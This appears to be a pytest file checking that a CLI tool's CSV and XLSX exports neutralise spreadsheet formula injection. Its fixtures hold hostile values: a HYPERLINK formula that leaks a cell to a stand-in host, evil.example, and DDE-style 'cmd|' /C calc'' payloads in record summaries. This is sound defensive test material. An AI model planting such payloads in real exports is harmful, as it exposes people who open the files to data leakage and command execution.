"""Spreadsheet formula injection: text jw writes into CSV is never evaluated by a spreadsheet.

A hostile partner names itself `=HYPERLINK(...)` in the charter and writes summaries starting
with `=`, `+`, `-`, `@`, a tab or a carriage return; whoever opens the export in Excel must see
that text, not run it. Plain numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from jwcli.export.writers import csv_safe
from tests.helpers import BASELINES, CHARTER, jw, rec, write_repo

TODAY = "2025-08-01"
EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _repo(tmp_path: Path) -> Path:
    charter = CHARTER.replace(
        "name: Acme Managed Services Ltd", "name: '" + EVIL_NAME.replace("'", "''") + "'"
    )
    return write_repo(
        tmp_path / "rel",
        {
            "charter.yaml": charter,
            "baselines.yaml": BASELINES,
            "records/2025-Q1/2025-05-01-plus.yaml": rec(
                "lesson", "2025-05-01", party="acme", summary="+1+cmd|' /C calc'!A0"
            ),
            "records/2025-Q1/2025-05-02-minus.yaml": rec(
                "lesson", "2025-05-02", party="acme", summary="-2+3+cmd|' /C calc'!A0"
            ),
            "records/2025-Q1/2025-05-03-at.yaml": rec(
                "lesson", "2025-05-03", party="acme", summary="@SUM(1+1)*cmd|' /C calc'!A0"
            ),
            "records/2025-Q1/2025-05-04-eq.yaml": rec(
                "lesson", "2025-05-04", party="acme", summary="=1+1"
            ),
            "records/2025-Q1/2025-06-28-credit.yaml": rec(
                "cost",
                "2025-06-28",
                service="helpdesk",
                party="north",
                period="2025-Q1",
                amount=-12.5,
                summary="A credit note",
            ),
        },
    )


def test_csv_safe_prefixes_formula_starts_and_keeps_numbers() -> None:
    for text in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "-1e5", "+12", "-"):
        assert csv_safe(text) == "'" + text
    for text in ("-12.50", "-3", "0", "12.5", "plain text", "", "a=b", "'quoted"):
        assert csv_safe(text) == text


def test_export_csv_neutralises_every_text_cell(tmp_path: Path) -> None:
    root = _repo(tmp_path)
    out = tmp_path / "out"
    result = jw("-C", str(root), "--today", TODAY, "export", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    lessons = {
        r["id"]: r["summary"]
        for r in csv.DictReader((out / "records_lesson.csv").open(encoding="utf-8"))
    }
    assert lessons == {
        "2025-05-01-plus": "'+1+cmd|' /C calc'!A0",
        "2025-05-02-minus": "'-2+3+cmd|' /C calc'!A0",
        "2025-05-03-at": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "2025-05-04-eq": "'=1+1",
    }
    costs = list(csv.DictReader((out / "records_cost.csv").open(encoding="utf-8")))
    assert costs[0]["amount"] == "-12.5"  # a negative amount is still a number
    # no cell in any file starts like a formula unless it is a plain number
    for path in out.glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8")):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r"):
                    raise AssertionError(f"{path.name}: {cell!r}")
                if cell.startswith("-"):
                    float(cell)  # a number, or this raises


def test_score_csv_neutralises_party_names(tmp_path: Path) -> None:
    root = _repo(tmp_path)
    result = jw(
        "-C", str(root), "--today", TODAY, "score", "--quarter", "2025-Q1", "--format", "csv"
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    names = {r["party"]: r["party_name"] for r in rows}
    assert names["acme"] == "'" + EVIL_NAME
    assert names["north"] == "North District Council"


def test_xlsx_writes_every_hostile_text_as_text(tmp_path: Path) -> None:
    import openpyxl

    root = _repo(tmp_path)
    out = tmp_path / "out"
    result = jw("-C", str(root), "--today", TODAY, "export", "--out", str(out))
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out / "jw-export.xlsx")
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@"):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    # shown as written (no apostrophe: xlsx keeps text as text), never as a formula
    assert {EVIL_NAME, "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0"} <= seen
